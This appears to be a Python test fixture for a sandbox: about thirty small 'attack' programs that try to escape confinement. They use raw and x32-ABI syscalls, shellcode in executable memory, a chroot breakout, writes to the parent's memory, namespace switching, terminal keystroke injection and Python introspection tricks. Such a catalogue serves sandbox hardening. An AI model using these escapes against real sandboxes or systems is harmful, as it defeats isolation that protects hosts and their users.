"""Attempts to act outside the process: other calls of the kernel, processes, views of the system."""

LIBC = """
import ctypes
import os

libc = ctypes.CDLL(None, use_errno=True)


def call(number, *arguments):
    result = libc.syscall(ctypes.c_long(number), *arguments)
    if result < 0:
        raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))
    return result
"""

PROGRAMS = {
    "execve by number": LIBC
    + """
def attack(env_data, state, calc):
    argv = (ctypes.c_char_p * 4)(b"/bin/sh", b"-c", b"echo evil > @FORBIDDEN_FOLDER@/evil", None)
    call(59, b"/bin/sh", argv, None)
    return state
""",
    "execveat of a descriptor": LIBC
    + """
def attack(env_data, state, calc):
    fd = call(257, -100, b"/bin/sh", 0)
    argv = (ctypes.c_char_p * 4)(b"sh", b"-c", b"echo evil > @FORBIDDEN_FOLDER@/evil", None)
    call(322, fd, b"", argv, None, 0x1000)
    return state
""",
    "the other ABI": LIBC
    + """
def attack(env_data, state, calc):
    # x32: the same calls with bit 30 set, which a filter by number may miss
    call(0x40000000 + 520, b"/bin/sh", None, None)
    return state
""",
    "calls of 32 bits": """
import ctypes
import mmap


def attack(env_data, state, calc):
    # int 0x80 has other numbers: 5 opens a file there, with arguments below 4 GiB
    code = bytes.fromhex("b805000000bb00000000b942020000ba b6010000cd80c3".replace(" ", ""))
    page = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
    page.write(code)
    address = ctypes.addressof(ctypes.c_char.from_buffer(page))
    result = ctypes.CFUNCTYPE(ctypes.c_long)(address)()
    if result < 0:
        raise OSError(-result, "refused")
    return state
""",
    "written machine code": """
import ctypes
import mmap


def attack(env_data, state, calc):
    # mov eax, 57 (fork); syscall; ret
    page = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
    page.write(bytes.fromhex("b8390000000f05c3"))
    result = ctypes.CFUNCTYPE(ctypes.c_long)(ctypes.addressof(ctypes.c_char.from_buffer(page)))()
    if result < 0:
        raise OSError(-result, "refused")
    return state
""",
    "vfork": LIBC
    + """
def attack(env_data, state, calc):
    call(58)
    return state
""",
    "clone3": LIBC
    + """
def attack(env_data, state, calc):
    arguments = (ctypes.c_uint64 * 11)()
    if call(435, arguments, 88) == 0:
        os._exit(0)
    return state
""",
    "posix_spawn": """
import os


def attack(env_data, state, calc):
    os.posix_spawn("/bin/sh", ["sh", "-c", "echo evil > @FORBIDDEN_FOLDER@/evil"], {})
    return state
""",
    "a pseudo-terminal": """
import pty


def attack(env_data, state, calc):
    pty.spawn(["/bin/sh", "-c", "echo evil > @FORBIDDEN_FOLDER@/evil"])
    return state
""",
    "multiprocessing": """
import multiprocessing
import os


def strike():
    os.mkdir("@FORBIDDEN_FOLDER@/evil")


def attack(env_data, state, calc):
    process = multiprocessing.get_context("fork").Process(target=strike)
    process.start()
    process.join()
    return state
""",
    "writes the parent's memory": LIBC
    + """
def attack(env_data, state, calc):
    class Vector(ctypes.Structure):
        _fields_ = [("base", ctypes.c_void_p), ("length", ctypes.c_size_t)]

    data = ctypes.create_string_buffer(b"evil", 4)
    local, remote = Vector(ctypes.addressof(data), 4), Vector(0x400000, 4)
    call(311, os.getppid() or 1, ctypes.byref(local), 1, ctypes.byref(remote), 1, 0)
    return state
""",
    "steals a descriptor": LIBC
    + """
def attack(env_data, state, calc):
    other = call(434, os.getppid() or 1, 0)
    call(438, other, 1, 0)
    return state
""",
    "signals by descriptor": """
import os
import signal


def attack(env_data, state, calc):
    signal.pidfd_send_signal(os.pidfd_open(os.getppid() or 1), signal.SIGKILL)
    return state
""",
    "signals by owner": """
import fcntl
import os
import signal


def attack(env_data, state, calc):
    read, write = os.pipe()
    fcntl.fcntl(read, fcntl.F_SETOWN, -1)
    fcntl.fcntl(read, 10, signal.SIGKILL)
    fcntl.fcntl(read, fcntl.F_SETFL, os.O_ASYNC | os.O_NONBLOCK)
    os.write(write, b"x")
    return state
""",
    "signals its group": """
import os
import signal


def attack(env_data, state, calc):
    os.killpg(os.getpgrp(), signal.SIGTERM)
    os.kill(0, signal.SIGKILL)
    return state
""",
    "another namespace by its file": LIBC
    + """
def attack(env_data, state, calc):
    for kind in ("mnt", "pid", "net", "user"):
        fd = os.open(f"/proc/{os.getppid() or 1}/ns/{kind}", os.O_RDONLY)
        call(308, fd, 0)
    return state
""",
    "out of the root": """
import os


def attack(env_data, state, calc):
    os.mkdir("jail")
    os.chroot("jail")
    for _ in range(64):
        os.chdir("..")
    os.chroot(".")
    os.mkdir("@FORBIDDEN_FOLDER@/evil")
    return state
""",
    "a file by its handle": LIBC
    + """
def attack(env_data, state, calc):
    handle = (ctypes.c_ubyte * 136)()
    ctypes.cast(handle, ctypes.POINTER(ctypes.c_uint))[0] = 128
    mount = ctypes.c_int()
    call(303, -100, b"@DATABASE@", handle, ctypes.byref(mount), 0)
    fd = call(304, -100, handle, os.O_RDWR)
    os.write(fd, b"evil")
    return state
""",
    "a mount by the new calls": LIBC
    + """
def attack(env_data, state, calc):
    tree = call(428, -100, b"/", 1)
    call(429, tree, b"", -100, b"/tmp", 4)
    return state
""",
    "a device of its own": """
import os
import stat


def attack(env_data, state, calc):
    os.mknod("disk", stat.S_IFBLK | 0o600, os.makedev(8, 0))
    with open("disk", "wb") as disk:
        disk.write(b"")
    return state
""",
    "programs for the kernel": LIBC
    + """
def attack(env_data, state, calc):
    call(321, 0, ctypes.create_string_buffer(128), 128)
    return state
""",
    "performance counters": LIBC
    + """
def attack(env_data, state, calc):
    attributes = ctypes.create_string_buffer(128)
    attributes[4] = 128
    call(298, attributes, os.getppid() or 1, -1, -1, 0)
    return state
""",
    "faults of other pages": LIBC
    + """
def attack(env_data, state, calc):
    call(323, 0)
    return state
""",
    "ports of the machine": LIBC
    + """
def attack(env_data, state, calc):
    call(172, 3)
    return state
""",
    "segments of its own": LIBC
    + """
def attack(env_data, state, calc):
    call(154, 1, ctypes.create_string_buffer(16), 16)
    return state
""",
    "another personality": LIBC
    + """
def attack(env_data, state, calc):
    call(135, 0x0040000 | 0x0400000)
    return state
""",
    "types into the terminal": """
import fcntl
import os
import termios


def attack(env_data, state, calc):
    terminal = os.open("/dev/tty", os.O_RDWR)
    for letter in b"touch evil\\n":
        fcntl.ioctl(terminal, termios.TIOCSTI, bytes([letter]))
    return state
""",
    "machine code calls the shell": """
import ctypes

import numba

system = ctypes.CDLL(None).system
system.argtypes = [ctypes.c_void_p]
command = ctypes.create_string_buffer(b"echo evil > @FORBIDDEN_FOLDER@/evil")
address = ctypes.addressof(command)


@numba.njit
def strike():
    return system(address)


def attack(env_data, state, calc):
    if strike() == -1:
        raise OSError("refused")
    return state
""",
    "object mode": """
import numba


@numba.njit
def strike():
    with numba.objmode():
        __import__("os").mkdir("@FORBIDDEN_FOLDER@/evil")


def attack(env_data, state, calc):
    strike()
    return state
""",
    "code in a signature": """
import numba


@numba.njit("__import__('os').mkdir('@FORBIDDEN_FOLDER@/evil')")
def twice(x):
    return 2 * x


def attack(env_data, state, calc):
    return state
""",
    "the globals of a class pattern": """
def attack(env_data, state, calc):
    match attack:
        case object(__builtins__=names):
            names["open"]("@FORBIDDEN_FOLDER@/evil", "w")
    return state
""",
    "the attribute of a format": """
class Holder(str):
    def __getattribute__(self, name):
        return __import__("os").mkdir("@FORBIDDEN_FOLDER@/evil")


def attack(env_data, state, calc):
    "{0.strike}".format(Holder())
    return state
""",
    "all classes": """
def attack(env_data, state, calc):
    for kind in ().__class__.__base__.__subclasses__():
        if kind.__name__ == "BuiltinImporter":
            kind.load_module("posix").mkdir("@FORBIDDEN_FOLDER@/evil")
    return state
""",
}
"""Name → text that defines ``attack``."""
